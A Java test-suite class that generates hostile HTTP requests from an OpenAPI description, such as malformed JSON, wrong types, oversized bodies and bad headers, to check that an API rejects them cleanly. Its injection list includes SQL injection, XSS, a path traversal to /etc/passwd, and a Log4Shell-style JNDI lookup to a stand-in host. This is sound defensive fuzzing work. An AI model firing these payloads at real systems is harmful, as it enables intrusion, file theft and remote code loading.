package io.rectify.platform.testing.reliability;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.rectify.contracts.CreditCode;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Consumer;

/**
 * Generates the hostile requests for one operation from its OpenAPI description: malformed JSON,
 * wrong types, missing and null required fields, unknown enum values, oversized bodies and strings,
 * bad credit codes, injection strings, bad path and query parameters, wrong content types, garbage
 * headers and undeclared methods, and extreme numbers (0, -1, 2^31-1, 2^31, 2^63-1, 1e309, NaN) in every
 * numeric query parameter. Every generated request is strictly invalid except hostile values
 * in a read's free-text parameters, which may legitimately match nothing and answer 2xx, and extreme
 * numbers inside a parameter's declared range (e.g. the last int page: an empty page).
 */
public final class HostileRequests {

    /** Strings that have broken parsers, queries, templates and loggers elsewhere. */
    public static final List<String> INJECTIONS = List.of(
            "' OR 1=1 --", "'; DROP TABLE hazard; --", "\" OR \"\"=\"", "<script>alert(1)</script>", "../../etc/passwd",
            "${jndi:ldap://x.example/a}", "a\u0000b", "%00%27", "{{7*7}}#{7*7}", "%s%s%s%n", "\uD800\uDFFF\uFFFE", "\\u0000\\");
    private static final int HUGE_BODY = 1536 * 1024;
    private static final int HUGE_STRING = 200_000;

    private final OpenApiDocument doc;
    private final SchemaValues values;
    private final Map<String, String> pathValues;

    /** @param pathValues values for path parameters by name (e.g. an existing resource's id); others get a random id */
    public HostileRequests(OpenApiDocument doc, Map<String, String> pathValues) {
        this.doc = doc;
        this.values = new SchemaValues(doc);
        this.pathValues = pathValues;
    }

    public List<HostileRequest> forOperation(ApiOperation op) {
        List<HostileRequest> out = new ArrayList<>();
        pathParameters(op, out::add);
        queryParameters(op, out::add);
        if (op.hasJsonBody()) {
            JsonNode schema = doc.resolve(op.bodySchema());
            ObjectNode baseline = "object".equals(SchemaValues.typeOf(schema)) && values.example(schema, null, 0) instanceof ObjectNode o ? o : null;
            malformedBodies(op, baseline, out::add);
            contentTypes(op, baseline, out::add);
            hugeBodies(op, baseline, out::add);
            if (baseline != null) {
                fieldMutations(op, schema, baseline, out::add);
            }
        }
        headers(op, out::add);
        return out;
    }

    /** One request per undeclared method of each path: 405 expected. */
    public List<HostileRequest> wrongMethods(List<ApiOperation> operations) {
        List<HostileRequest> out = new ArrayList<>();
        Set<String> seen = new java.util.HashSet<>();
        for (ApiOperation op : operations) {
            if (!seen.add(op.path())) {
                continue;
            }
            Set<String> declared = doc.methodsOf(op.path());
            for (String m : List.of("GET", "POST", "PUT", "PATCH", "DELETE")) {
                if (!declared.contains(m)) {
                    HostileRequest.Builder b = HostileRequest.on(op, "wrong-method", m + " is not declared").method(m).path(path(op, Map.of()));
                    if (!m.equals("GET") && !m.equals("DELETE")) {
                        b.json("{}");
                    }
                    out.add(b.build());
                }
            }
        }
        return out;
    }

    // ---------------------------------------------------------------- parameters

    private void pathParameters(ApiOperation op, Consumer<HostileRequest> out) {
        for (ApiOperation.Param p : op.parameters("path")) {
            String format = p.schema().path("format").asText("");
            String type = SchemaValues.typeOf(p.schema());
            // a typed id that is not one cannot name anything: strict even for reads
            boolean typed = format.equals("uuid") || "integer".equals(type) || p.schema().has("pattern") || p.schema().has("enum");
            List<String> bad = new ArrayList<>(List.of("not-a-uuid", "-1", "99999999999999999999", "0", "x".repeat(2000),
                    UUID.randomUUID() + "x", " ", "null"));
            bad.addAll(INJECTIONS);
            for (String v : bad) {
                if (!typed && (v.equals("0") || v.equals("-1") || v.equals("null"))) {
                    continue;
                }
                if (!typed && !op.safe() && !namesExistingResource(op)) {
                    continue; // a PUT may create whatever key it is given: a free-text key is no proof of hostility
                }
                HostileRequest.Builder b = HostileRequest.on(op, "bad-path-param", p.name() + "=" + v)
                        .path(path(op, Map.of(p.name(), v)));
                withBaselineInputs(op, b);
                if (!typed && op.safe()) {
                    b.lenient();
                }
                out.accept(b.build());
            }
        }
    }

    private void queryParameters(ApiOperation op, Consumer<HostileRequest> out) {
        for (ApiOperation.Param p : op.parameters("query")) {
            JsonNode s = doc.resolve(p.schema());
            String type = SchemaValues.typeOf(s);
            String format = s.path("format").asText("");
            Map<String, Boolean> bad = new LinkedHashMap<>(); // value -> strict
            if ("integer".equals(type) || "number".equals(type)) {
                bad.put("abc", true);
                bad.put("99999999999999999999999", true);
                bad.put("1e999", true);
                if (s.has("minimum")) {
                    bad.put(String.valueOf(s.get("minimum").asLong() - 1), true);
                    bad.put("-2147483649", true);
                }
                if (s.has("maximum")) {
                    bad.put(String.valueOf(s.get("maximum").asLong() + 1), true);
                    bad.put("100000", s.get("maximum").asLong() < 100000);
                }
            } else if ("boolean".equals(type)) {
                bad.put("maybe", true);
            } else if (s.has("enum")) {
                bad.put("NOT_A_VALUE", true);
                bad.put("' OR 1=1 --", true);
            } else if (format.equals("uuid")) {
                bad.put("not-a-uuid", true);
                bad.put("' OR 1=1 --", true);
            } else if (format.equals("date") || format.equals("date-time")) {
                bad.put("2024-13-45", true);
                bad.put("yesterday", true);
                bad.put("99999-01-01", true);
            } else if ("array".equals(type)) {
                JsonNode items = doc.resolve(s.path("items"));
                if (items.has("enum")) {
                    bad.put("NOT_A_VALUE", true);
                }
                for (String v : INJECTIONS) {
                    bad.putIfAbsent(v, items.has("enum") || items.has("pattern"));
                }
            } else {
                for (String v : INJECTIONS) {
                    bad.put(v, refuses(s, p.name(), v));
                }
                bad.put("x".repeat(3000), s.has("maxLength") && s.get("maxLength").asInt() < 3000);
                if (SchemaValues.isCreditCodeField(p.name())) {
                    badCreditCodes().forEach(c -> bad.put(c, false));
                }
            }
            if ("integer".equals(type) || "number".equals(type)) {
                for (Map.Entry<String, Boolean> v : extremeNumbers(s, type).entrySet()) {
                    if (bad.containsKey(v.getKey()) || (!v.getValue() && !op.safe() && !namesExistingResource(op))) {
                        continue;
                    }
                    HostileRequest.Builder b = HostileRequest.on(op, "extreme-number", p.name() + "=" + v.getKey())
                            .path(path(op, Map.of())).query(p.name(), v.getKey());
                    withBaselineInputs(op, b);
                    if (!v.getValue()) {
                        b.lenient();
                    }
                    out.accept(b.build());
                }
            }
            for (Map.Entry<String, Boolean> v : bad.entrySet()) {
                if (!v.getValue() && !op.safe() && !namesExistingResource(op)) {
                    continue; // a free-text value on a command without a named resource could be accepted
                }
                HostileRequest.Builder b = HostileRequest.on(op, "bad-query-param", p.name() + "=" + v.getKey())
                        .path(path(op, Map.of())).query(p.name(), v.getKey());
                withBaselineInputs(op, b);
                if (!v.getValue() && op.safe()) {
                    b.lenient();
                }
                out.accept(b.build());
            }
        }
    }

    /** Numbers at the edges of int, long and double, tried in every numeric query parameter. */
    public static final List<String> EXTREME_NUMBERS = List.of("0", "-1", "2147483647", "2147483648", "9223372036854775807", "1e309", "NaN");

    /**
     * Each extreme number and whether it is strictly invalid for the schema: outside its declared
     * {@code minimum}/{@code maximum}, past its {@code int32}/{@code int64} format, or not a whole
     * number for an integer (1e309 and NaN are no finite number at all). A value inside the declared
     * range may be answered 2xx (e.g. {@code page=2147483647}: an empty page) but never 5xx.
     */
    static Map<String, Boolean> extremeNumbers(JsonNode s, String type) {
        Map<String, Boolean> out = new LinkedHashMap<>();
        java.math.BigDecimal min = s.has("minimum") ? s.get("minimum").decimalValue() : null;
        java.math.BigDecimal max = s.has("maximum") ? s.get("maximum").decimalValue() : null;
        String format = s.path("format").asText("");
        for (String v : EXTREME_NUMBERS) {
            if (v.equals("1e309") || v.equals("NaN")) {
                out.put(v, true);
                continue;
            }
            java.math.BigDecimal n = new java.math.BigDecimal(v);
            boolean strict = (min != null && n.compareTo(min) < 0) || (max != null && n.compareTo(max) > 0)
                    || ("integer".equals(type) && format.equals("int32") && n.compareTo(java.math.BigDecimal.valueOf(Integer.MAX_VALUE)) > 0);
            out.put(v, strict);
        }
        return out;
    }

    /** Required query parameters with plausible values and the baseline body, around the one bad input. */
    private void withBaselineInputs(ApiOperation op, HostileRequest.Builder b) {
        if (op.hasJsonBody()) {
            JsonNode schema = doc.resolve(op.bodySchema());
            b.json(write(values.example(schema, null, 0)));
        }
        for (ApiOperation.Param q : op.parameters("query")) {
            if (q.required()) {
                b.query(q.name(), values.example(q.schema(), q.name(), 0).asText());
            }
        }
    }

    // ---------------------------------------------------------------- bodies

    private void malformedBodies(ApiOperation op, ObjectNode baseline, Consumer<HostileRequest> out) {
        String full = baseline == null ? "{\"a\":1}" : write(baseline);
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("truncated", full.substring(0, Math.max(1, full.length() / 2)).getBytes(StandardCharsets.UTF_8));
        bodies.put("open brace", "{".getBytes(StandardCharsets.UTF_8));
        bodies.put("missing value", "{\"a\":}".getBytes(StandardCharsets.UTF_8));
        bodies.put("not JSON", "not json at all".getBytes(StandardCharsets.UTF_8));
        bodies.put("single quotes", full.replace('"', '\'').getBytes(StandardCharsets.UTF_8));
        bodies.put("empty", new byte[0]);
        bodies.put("whitespace", "   \n ".getBytes(StandardCharsets.UTF_8));
        bodies.put("null", "null".getBytes(StandardCharsets.UTF_8));
        bodies.put("array", "[1,2,3]".getBytes(StandardCharsets.UTF_8));
        bodies.put("string", "\"text\"".getBytes(StandardCharsets.UTF_8));
        bodies.put("number", "42".getBytes(StandardCharsets.UTF_8));
        bodies.put("nested 100000 deep", ("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8));
        bodies.put("invalid UTF-8", new byte[]{'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
        bodies.put("NUL bytes", new byte[]{'{', 0, 0, '}'});
        bodies.put("duplicate keys and trailing comma", "{\"a\":1,\"a\":2,}".getBytes(StandardCharsets.UTF_8));
        for (Map.Entry<String, byte[]> b : bodies.entrySet()) {
            out.accept(HostileRequest.on(op, "malformed-json", b.getKey()).path(path(op, Map.of()))
                    .body(b.getValue(), "application/json").build());
        }
    }

    private void contentTypes(ApiOperation op, ObjectNode baseline, Consumer<HostileRequest> out) {
        byte[] json = (baseline == null ? "{}" : write(baseline)).getBytes(StandardCharsets.UTF_8);
        Map<String, byte[]> types = new LinkedHashMap<>();
        types.put("text/plain", json);
        types.put("application/xml", "<hazard><id>1</id></hazard>".getBytes(StandardCharsets.UTF_8));
        types.put("application/x-www-form-urlencoded", "a=1&b=2".getBytes(StandardCharsets.UTF_8));
        types.put("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--xyz--\r\n".getBytes(StandardCharsets.UTF_8));
        types.put("application/octet-stream", new byte[]{1, 2, 3, 0, (byte) 0xFF});
        if (namesExistingResource(op)) {
            // without a Content-Type a JSON-only endpoint may read the body as JSON (Quarkus REST does): only
            // where the resource cannot exist is that request certain to be refused
            types.put("", json);
        }
        for (Map.Entry<String, byte[]> t : types.entrySet()) {
            HostileRequest.Builder b = HostileRequest.on(op, "wrong-content-type", t.getKey().isEmpty() ? "no Content-Type" : t.getKey())
                    .path(path(op, Map.of())).body(t.getValue(), t.getKey().isEmpty() ? null : t.getKey());
            out.accept(b.build());
        }
    }

    private void hugeBodies(ApiOperation op, ObjectNode baseline, Consumer<HostileRequest> out) {
        ObjectNode huge = baseline == null ? SchemaValues.NODES.objectNode() : baseline.deepCopy();
        huge.put("padding", "x".repeat(HUGE_BODY));
        byte[] bytes = write(huge).getBytes(StandardCharsets.UTF_8);
        out.accept(HostileRequest.on(op, "huge-body", "1.5 MiB with Content-Length").path(path(op, Map.of())).body(bytes, "application/json").build());
        out.accept(HostileRequest.on(op, "huge-body", "1.5 MiB chunked").path(path(op, Map.of())).body(bytes, "application/json").chunked().build());
        byte[] array = ("[" + "1,".repeat(HUGE_BODY / 2) + "1]").getBytes(StandardCharsets.UTF_8);
        out.accept(HostileRequest.on(op, "huge-body", "3 MiB array").path(path(op, Map.of())).body(array, "application/json").build());
    }

    private void fieldMutations(ApiOperation op, JsonNode schema, ObjectNode baseline, Consumer<HostileRequest> out) {
        Set<String> required = new java.util.HashSet<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        // an operation on a named resource (random id) cannot succeed: every body value there is strictly hostile
        boolean namedResource = namesExistingResource(op);
        if (!required.isEmpty()) {
            out.accept(body(op, "missing-required", "empty object", SchemaValues.NODES.objectNode()));
        }
        for (Iterator<Map.Entry<String, JsonNode>> it = SchemaValues.properties(schema); it.hasNext(); ) {
            Map.Entry<String, JsonNode> prop = it.next();
            String name = prop.getKey();
            JsonNode s = doc.resolve(prop.getValue());
            String type = SchemaValues.typeOf(s);
            String format = s.path("format").asText("");
            if (required.contains(name)) {
                ObjectNode missing = baseline.deepCopy();
                missing.remove(name);
                out.accept(body(op, "missing-required", name + " missing", missing));
                ObjectNode nulled = baseline.deepCopy();
                nulled.putNull(name);
                out.accept(body(op, "missing-required", name + " null", nulled));
            }
            for (JsonNode wrong : wrongTypes(type, format, s)) {
                out.accept(body(op, "wrong-type", name + "=" + wrong, with(baseline, name, wrong)));
            }
            if (s.has("enum")) {
                for (String v : List.of("NOT_A_VALUE", s.get("enum").get(0).asText().toLowerCase() + "_x", "RED; DROP TABLE x")) {
                    out.accept(body(op, "unknown-enum", name + "=" + v, with(baseline, name, SchemaValues.NODES.textNode(v))));
                }
            }
            if ("array".equals(type) && doc.resolve(s.path("items")).has("enum")) {
                out.accept(body(op, "unknown-enum", name + "[0]=NOT_A_VALUE", with(baseline, name, SchemaValues.NODES.arrayNode().add("NOT_A_VALUE"))));
            }
            if ("string".equals(type) && SchemaValues.isCreditCodeField(name)) {
                for (String code : badCreditCodes()) {
                    out.accept(body(op, "bad-credit-code", name + "=" + code, with(baseline, name, SchemaValues.NODES.textNode(code))));
                }
            }
            if ("string".equals(type) && (s.has("maxLength") || namedResource)) {
                int max = s.path("maxLength").asInt(HUGE_STRING);
                out.accept(body(op, "huge-string", name + " of " + (max + 1) + " chars", with(baseline, name, SchemaValues.NODES.textNode("x".repeat(max + 1)))));
                if (max < HUGE_STRING) {
                    out.accept(body(op, "huge-string", name + " of " + HUGE_STRING + " chars", with(baseline, name, SchemaValues.NODES.textNode("字".repeat(HUGE_STRING)))));
                }
            }
            if ("string".equals(type)) {
                for (String v : INJECTIONS) {
                    if (namedResource || refuses(s, name, v)) {
                        out.accept(body(op, "injection", name + "=" + v, with(baseline, name, SchemaValues.NODES.textNode(v))));
                    }
                }
            }
            if (("integer".equals(type) || "number".equals(type)) && s.has("minimum")) {
                out.accept(body(op, "out-of-range", name + " below minimum", with(baseline, name, SchemaValues.NODES.numberNode(s.get("minimum").asLong() - 1))));
                out.accept(body(op, "out-of-range", name + "=-2^63", with(baseline, name, SchemaValues.NODES.numberNode(Long.MIN_VALUE))));
            }
            if (("integer".equals(type) || "number".equals(type)) && s.has("maximum")) {
                out.accept(body(op, "out-of-range", name + " above maximum", with(baseline, name, SchemaValues.NODES.numberNode(s.get("maximum").asLong() + 1))));
            }
            if ("integer".equals(type)) {
                out.accept(body(op, "out-of-range", name + " overflows", with(baseline, name,
                        SchemaValues.NODES.numberNode(new java.math.BigInteger("99999999999999999999999999")))));
            }
        }
    }

    /**
     * Whether the schema itself rules the string out: a format, an enum, a credit code, or a pattern
     * the value does not even contain a match of (JSON Schema patterns are unanchored, Bean
     * Validation's are anchored: no match at all is invalid under both).
     */
    static boolean refuses(JsonNode s, String name, String value) {
        String format = s.path("format").asText("");
        if (format.equals("uuid") || format.equals("date") || format.equals("date-time") || s.has("enum")
                || SchemaValues.isCreditCodeField(name)) {
            return true;
        }
        if (s.has("pattern")) {
            try {
                return !java.util.regex.Pattern.compile(s.get("pattern").asText()).matcher(value).find();
            } catch (java.util.regex.PatternSyntaxException e) {
                return false;
            }
        }
        return false;
    }

    /**
     * Whether a command addresses a resource that must already exist (a random id then cannot succeed):
     * true for POST/PATCH/DELETE under a path parameter, false for a PUT, which may create its key.
     */
    static boolean namesExistingResource(ApiOperation op) {
        return !op.parameters("path").isEmpty() && !op.method().equals("PUT");
    }

    /** JSON values Jackson cannot coerce into a property of this type. */
    private static List<JsonNode> wrongTypes(String type, String format, JsonNode s) {
        var n = SchemaValues.NODES;
        if (type == null) {
            return List.of();
        }
        return switch (type) {
            case "string" -> switch (format) {
                case "uuid" -> List.of(n.textNode("not-a-uuid"), n.objectNode(), n.arrayNode());
                case "date", "date-time" -> List.of(n.textNode("2024-13-45"), n.textNode("yesterday"), n.booleanNode(true), n.objectNode().put("y", 1));
                default -> List.of(n.objectNode().put("a", 1), n.arrayNode().add(1).add(2));
            };
            case "integer", "number" -> List.of(n.textNode("abc"), n.objectNode().put("a", 1), n.arrayNode().add(1).add(2));
            case "boolean" -> List.of(n.textNode("maybe"), n.objectNode().put("a", 1), n.arrayNode().add(1).add(2));
            case "array" -> List.of(n.textNode("not an array"), n.objectNode().put("a", 1));
            case "object" -> s.has("additionalProperties") && !s.has("properties")
                    ? List.of(n.textNode("not an object"), n.arrayNode().add(1))
                    : List.of(n.textNode("not an object"), n.numberNode(42), n.arrayNode().add(1));
            default -> List.of();
        };
    }

    /** Codes of the right shape with one defect each: check character, length, case, forbidden letters. */
    public static List<String> badCreditCodes() {
        String valid = SchemaValues.VALID_CREDIT_CODE;
        char wrongCheck = CreditCode.CHARSET.charAt((CreditCode.CHARSET.indexOf(valid.charAt(17)) + 1) % CreditCode.CHARSET.length());
        return List.of(valid.substring(0, 17) + wrongCheck, valid.substring(0, 17), valid + "0", valid.toLowerCase(),
                "91510781MA6ABCI23" + CreditCode.CHARSET.charAt(0), "91510781MA6ABC12O" + "Z", "' OR 1=1 --      x");
    }

    private HostileRequest body(ApiOperation op, String category, String description, JsonNode json) {
        HostileRequest.Builder b = HostileRequest.on(op, category, description).path(path(op, Map.of())).json(write(json));
        for (ApiOperation.Param q : op.parameters("query")) {
            if (q.required()) {
                b.query(q.name(), values.example(q.schema(), q.name(), 0).asText());
            }
        }
        return b.build();
    }

    private static ObjectNode with(ObjectNode baseline, String name, JsonNode value) {
        ObjectNode copy = baseline.deepCopy();
        copy.set(name, value);
        return copy;
    }

    // ---------------------------------------------------------------- headers

    private void headers(ApiOperation op, Consumer<HostileRequest> out) {
        if (!op.safe() && !namesExistingResource(op)) {
            return; // without a named resource a valid body could be accepted: nothing strictly hostile to send
        }
        Map<String, String> bad = new LinkedHashMap<>();
        bad.put("If-Match", "\"not-a-version\"");
        bad.put("If-None-Match", "\"' OR 1=1 --\"");
        bad.put("Accept", "application/xml");
        bad.put("Accept-Language", "x".repeat(4000));
        bad.put("Idempotency-Key", "${jndi:ldap://x.example/a}" + "k".repeat(3000));
        for (Map.Entry<String, String> h : bad.entrySet()) {
            HostileRequest.Builder b = HostileRequest.on(op, "bad-header", h.getKey() + ": " + h.getValue())
                    .path(path(op, Map.of())).header(h.getKey(), h.getValue());
            withBaselineInputs(op, b);
            if (op.safe()) {
                b.lenient();
            }
            out.accept(b.build());
        }
    }

    // ---------------------------------------------------------------- helpers

    /** The operation's path with each parameter filled in (overrides first) and percent-encoded. */
    public String path(ApiOperation op, Map<String, String> overrides) {
        String p = op.path();
        for (ApiOperation.Param param : op.parameters("path")) {
            String v = overrides.containsKey(param.name()) ? overrides.get(param.name()) : baselinePathValue(op, param);
            p = p.replace("{" + param.name() + "}", encodeSegment(v));
        }
        return p;
    }

    private String baselinePathValue(ApiOperation op, ApiOperation.Param param) {
        // a known value only for reads: a state change on a real resource could accept a valid-looking body
        if (op.safe() && pathValues.containsKey(param.name())) {
            return pathValues.get(param.name());
        }
        String type = SchemaValues.typeOf(param.schema());
        if ("integer".equals(type)) {
            return "987654321";
        }
        if (param.schema().path("format").asText("").equals("uuid")) {
            return UUID.randomUUID().toString();
        }
        return "zz-none-" + UUID.randomUUID().toString().substring(0, 8);
    }

    static String encodeSegment(String value) {
        StringBuilder sb = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xFF);
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' || c == '~') {
                sb.append(c);
            } else {
                sb.append('%').append(String.format("%02X", b & 0xFF));
            }
        }
        return sb.toString();
    }

    static String write(JsonNode json) {
        try {
            return OpenApiDocument.JSON.writeValueAsString(json);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
